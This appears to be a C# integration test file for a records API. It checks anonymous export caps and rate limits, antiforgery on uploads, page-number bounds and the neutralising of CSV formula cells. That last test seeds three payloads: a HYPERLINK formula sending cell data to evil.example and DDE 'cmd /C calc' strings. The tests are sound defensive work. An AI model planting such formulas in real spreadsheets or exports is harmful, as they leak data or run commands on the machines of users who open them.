using System.Net;
using System.Text;
using Zhichan.Tests.Infrastructure;

namespace Zhichan.Tests.Records.Api;

/// <summary>Issue 18 on the data centre: capped anonymous exports, neutralised CSV formulas, antiforgery on uploads, page bounds.</summary>
public class RecordsSecurityTests(ZhichanFactory app) : IntegrationTest(app)
{
    [Fact]
    public async Task Export_Anonymous_IsCappedAt1000Rows_SignedInGetsAll()
    {
        var bureau = await App.CreateClientAsAsync("bureau");
        await RecordsApi.ImportAsync(bureau, Cn2017.Utf8Csv(Cn2017.First(1_200)), "first-1200.csv");
        var total = await App.ScalarAsync<long>("SELECT count(*) FROM records");
        total.ShouldBeGreaterThan(1_000);

        static async Task<int> RowsAsync(HttpResponseMessage res)
        {
            res.StatusCode.ShouldBe(HttpStatusCode.OK);
            var text = await res.Content.ReadAsStringAsync();
            return text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length - 1;
        }
        (await RowsAsync(await App.CreateAnonymousClient().GetAsync("/api/records/export?format=csv&limit=100000"))).ShouldBe(1_000);
        (await RowsAsync(await bureau.GetAsync("/api/records/export?format=csv&limit=100000"))).ShouldBe((int)total);
    }

    [Fact]
    public async Task Export_CsvFormulaCells_AreNeutralised()
    {
        var bureau = await App.CreateClientAsAsync("bureau");
        var rows = Cn2017.First(3).Select(r => r.ToArray()).ToList();
        var title = Cn2017.Col("title");
        var applicant = Cn2017.Col("applicant");
        rows[0][title] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
        rows[1][title] = "+cmd|' /C calc'!A0";
        rows[2][applicant] = "@SUM(1+1)*cmd|' /C calc'!A0";
        await RecordsApi.ImportAsync(bureau, Cn2017.Utf8Csv(rows), "formulas.csv");
        var csv = await (await bureau.GetAsync("/api/records/export?format=csv")).Content.ReadAsStringAsync();
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).ToList();
        lines.Count.ShouldBe(3);
        // no cell of the export starts with a formula character (a quoted cell is checked inside its quotes)
        foreach (var line in lines)
        foreach (var cell in SplitCsv(line))
            (cell.Length > 0 && "=+-@\t\r".Contains(cell[0])).ShouldBeFalse($"cell {cell} of {line}");
        csv.ShouldContain("'=HYPERLINK");
        csv.ShouldContain("'+cmd|");
        csv.ShouldContain("'@SUM");
    }

    private static List<string> SplitCsv(string line)
    {
        var cells = new List<string>();
        var sb = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < line.Length && line[i + 1] == '"') { sb.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else sb.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { cells.Add(sb.ToString()); sb.Clear(); }
            else sb.Append(c);
        }
        cells.Add(sb.ToString());
        return cells;
    }

    [Fact]
    public async Task CreateImport_CookieAuthenticatedWithoutAntiforgeryToken_IsRefused()
    {
        var bureau = await App.CreateClientAsAsync("bureau");
        bureau.DefaultRequestHeaders.Remove("X-XSRF-TOKEN");
        var res = await RecordsApi.PostImportAsync(bureau, Cn2017.Utf8Csv(Cn2017.First(3)), "x.csv");
        (await res.ShouldBeProblemAsync(HttpStatusCode.BadRequest)).GetProperty("title").GetString().ShouldBe("防伪令牌无效");
        (await App.ScalarAsync<long>("SELECT count(*) FROM imports")).ShouldBe(0);
    }

    [Fact]
    public async Task Search_AbsurdPageNumber_Is400()
    {
        var p = await (await App.CreateAnonymousClient().GetAsync("/api/records?q=电池&page=2147483647")).ShouldBeProblemAsync(HttpStatusCode.BadRequest);
        p.GetProperty("errors").GetProperty("page")[0].GetString()!.ShouldContain("页码");
    }
}

/// <summary>Anonymous exports are limited per IP and hour (ZHICHAN_PUBLIC_EXPORT_RATE).</summary>
public class AnonymousExportRateTests(AnonymousExportRateTests.Factory app) : IntegrationTest<AnonymousExportRateTests.Factory>(app)
{
    public sealed class Factory : ZhichanFactory
    {
        protected override IDictionary<string, string> Settings => new Dictionary<string, string> { ["ZHICHAN_PUBLIC_EXPORT_RATE"] = "2" };
    }

    [Fact]
    public async Task ThirdAnonymousExportInAnHour_Gets429()
    {
        var anon = App.CreateAnonymousClient();
        (await anon.GetAsync("/api/records/export?format=csv")).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await anon.GetAsync("/api/records/export?format=csv")).StatusCode.ShouldBe(HttpStatusCode.OK);
        var refused = await anon.GetAsync("/api/records/export?format=csv");
        await refused.ShouldBeProblemAsync(HttpStatusCode.TooManyRequests);
        // a signed-in user is limited per account, not by the anonymous allowance
        (await (await App.CreateClientAsAsync("bureau")).GetAsync("/api/records/export?format=csv")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }
}
